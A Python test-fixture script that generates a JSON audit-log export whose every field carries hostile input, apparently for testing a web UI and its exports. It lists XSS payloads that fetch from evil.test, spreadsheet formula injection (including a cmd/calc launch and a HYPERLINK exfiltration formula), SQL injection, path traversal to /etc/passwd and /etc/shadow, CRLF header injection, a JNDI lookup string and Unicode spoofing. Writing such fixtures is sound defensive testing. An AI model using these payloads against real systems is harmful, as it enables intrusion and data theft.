"""Writes hostile.json: a legacy export in which every text field carries every hostile text once.

Run `python tests/data/hostile/make.py` after a change here. Every address is at evil.test, a name that can't exist
(RFC 6761), so a browser test may assert that no request leaves. The file is pure ASCII: what is invisible or
reorders text stands as an escape.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

HERE: Final = Path(__file__).parent
NEWEST: Final = datetime(2026, 9, 30, 12, 0, tzinfo=UTC)
LONG: Final = 100_000
"""Length of the one very long name."""

MARKUP: Final = (
    "![tracking pixel](http://evil.test/pixel.png)",
    "[open the report](http://evil.test/report)",
    "[click](javascript:alert(document.domain))",
    "<http://evil.test/auto>",
    "http://evil.test/bare and www.evil.test/bare",
    "# heading\n\n- item\n\n> quote\n\n---",
    "| a | b |\n|---|---|\n| ![x](http://evil.test/table.png) | `code` |",
    "```html\n<img src=http://evil.test/fence.png>\n```",
    "**bold** _emphasis_ ~~struck~~ :red[coloured] :blue-background[marked] :small[small]",
    "[^1]: footnote http://evil.test/note",
    "<script>document.title='owned';fetch('http://evil.test/fetch')</script>",
    "<img src=x onerror=\"this.src='http://evil.test/onerror'\">",
    "\"><svg/onload=fetch('//evil.test/svg')>",
    "'-alert(1)-'",
    "</script><script src=//evil.test/x.js></script>",
    "<iframe src=http://evil.test/frame></iframe>",
    "<a href='javascript:alert(1)'>sign in again</a>",
    "<style>@import 'http://evil.test/style.css';</style>",
    "<form action=http://evil.test/form><input name=password autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    "&lt;b&gt;entity&lt;/b&gt; &#60;script&#62; &amp;amp;",
    "<!-- comment --> <![CDATA[x]]> <?xml version='1.0'?>",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)//http://evil.test/js",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
CHARTS: Final = (
    "<b>bold</b><br>second line<i>i</i><sub>1</sub><sup>2</sup>",
    '<a href="http://evil.test/plotly">label</a>',
    '<a href="javascript:alert(1)">label</a>',
    '<span style="background:url(http://evil.test/x.png)">styled</span>',
    "<extra>extra box</extra>",
    "%{customdata} %{x:.2f} %{y} %{label} %{text}<extra></extra>",
    "$\\sum_{i=1}^{n} x_i$ costs $5 or $$\\href{http://evil.test/tex}{link}$$",
    "\\(a^2\\) \\[b\\]",
    ":material/home: :smile: :streamlit: :material/delete:",
    "{0} {0.__class__.__mro__} {name!r} {}",
    "%s %d %n %(name)s %%",
    "${jndi:ldap://evil.test/a} #{7*7} ${7*7}",
)
INVISIBLE: Final = (
    "abc\u202egnp.exe",
    "user\u202e\u2066 admin\u2069\u2066",
    "admin\u200b",
    "adm\u200cin\u200d\u2060\ufeff",
    "\u2067\u05d0\u05d1\u05d2\u2069 123 \u0645\u0634\u0631\u0648\u0639",
    "\u0430dmin",  # a Cyrillic letter in front
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 12,
    "soft\u00adhyphen no\u00a0break thin\u2009space ideographic\u3000space",
    "tag\U000e0041\U000e0042\U000e007f variation\ufe0f",
    "line\u2028separator paragraph\u2029separator next\u0085line",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 flag \U0001f1e9\U0001f1ea",
    "nul\u0000inside",
    "\u0000",
    "bell\u0007 back\u0008space escape\u001b[31mred\u001b[0m delete\u007f",
    "\u001b]8;;http://evil.test/osc\u001b\\terminal link\u001b]8;;\u001b\\",
    "one\ntwo\r\nthree\rfour\n\n\n\n",
    "tab\tseparated\tname",
    "   leading and trailing   ",
    " ",
    "\ufffd\uffff",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.test/?x="&A1,"report")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "'=1+1",
    "' \"  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u0000=1+1",
    "a;=1+1",
    "a,=1+1",
    'a","=1+1","',
)
NAMES: Final = (
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    '" OR ""="',
    "x' UNION SELECT current_setting('home_directory') --",
    "100% _under_ \\escape",
    "*?[a-z]",
    ".*(a+)+$",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "C:\\CON",
    "file:///etc/passwd",
    "a/b?action=Delete&result=Failed#top",
    "?from=2026-01-01&not.action=Login",
    "a%00b%0d%0aSet-Cookie:%20x=1",
    "name\r\nContent-Type: text/html",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "__class__",
    "null",
    "None",
    "NaN",
    "undefined",
    "true",
    "0",
    "1e309",
    "(no value)",
    "Other",
    '{"action":"Delete","id":1}',
    '[{"id":1}]',
    '{"status":200,"description":"fine"}',
    '"',
    "\\",
    "\\u0041\\n",
    "//",
)
TEXTS: Final = MARKUP + CHARTS + INVISIBLE + FORMULAS + NAMES
FIELDS: Final = (
    "action",
    "entityType",
    "entityName",
    "entityId",
    "sourceType",
    "sourceName",
    "sourceId",
    "clusterUuid",
    "version",
    "context.user_agent",
    "context.ip_address",
    "error",
    "error.description",
    "error.errorType",
    "body.name",
    "body key",
)
_STEP: Final = 7
"""How far one field's text lies from the next field's; any number does, neighbours only look alike."""


def text_for(number: int, field: str) -> str:
    """The hostile text that a record carries in a field: over all records each field carries each text."""
    return TEXTS[(number + _STEP * FIELDS.index(field)) % len(TEXTS)]


def record(number: int) -> dict[str, object]:
    """A record (0 is the newest) hostile in every field; its error is bare text, in the second half a JSON object."""
    texts = {field: text_for(number, field) for field in FIELDS}
    made: dict[str, object] = {
        "id": 3 * len(TEXTS) - number,
        "clusterUuid": texts["clusterUuid"],
        "tenantId": 1001,
        "happenedAt": moment(number),
        "action": texts["action"],
        "version": texts["version"],
        "entityId": texts["entityId"],
        "entityType": texts["entityType"],
        "entityName": texts["entityName"],
        "sourceType": texts["sourceType"],
        "sourceId": texts["sourceId"],
        "sourceName": texts["sourceName"],
        "context": {"user_agent": texts["context.user_agent"], "ip_address": texts["context.ip_address"]},
        "body": {"name": texts["body.name"], "deservedGpus": 1, "more": {texts["body key"]: [texts["body.name"]]}},
    }
    if number < len(TEXTS):
        made["error"] = texts["error"]
    else:
        parts = {"description": texts["error.description"], "errorType": texts["error.errorType"]}
        made["error"] = json.dumps({"status": 400 + number % 4, **parts})
    return made


def success(number: int) -> dict[str, object]:
    """A record hostile in the entity's name alone, of an ordinary event that succeeded."""
    return {
        "id": len(TEXTS) - number,
        "tenantId": 1001,
        "happenedAt": moment(2 * len(TEXTS) + number),
        "action": "Update",
        "entityType": "Project",
        "entityName": TEXTS[number],
        "sourceType": "User",
        "sourceName": "person@corp.example",
    }


def moment(number: int) -> str:
    """When a record happened: the further down, the earlier."""
    return f"{NEWEST - timedelta(minutes=37 * number):%Y-%m-%dT%H:%M:%S}.000Z"


def records() -> list[dict[str, object]]:
    """All records, newest first; the last three differ: a very long name, two texts where a time should be."""
    made = [record(number) for number in range(2 * len(TEXTS))]
    made += [success(number) for number in range(len(TEXTS))]
    plain = success(0)
    made.append({**plain, "id": 0, "happenedAt": moment(3 * len(TEXTS)), "entityName": "<b>" + "W" * (LONG - 3)})
    made.append({**plain, "id": -1, "happenedAt": "<img src=http://evil.test/time.png>"})
    made.append({**plain, "id": -2, "happenedAt": "=1+1"})
    return made


def content() -> bytes:
    """The file's bytes: a record a line."""
    return ("[\n" + ",\n".join(json.dumps(each) for each in records()) + "\n]\n").encode("ascii")


if __name__ == "__main__":
    (HERE / "hostile.json").write_bytes(content())
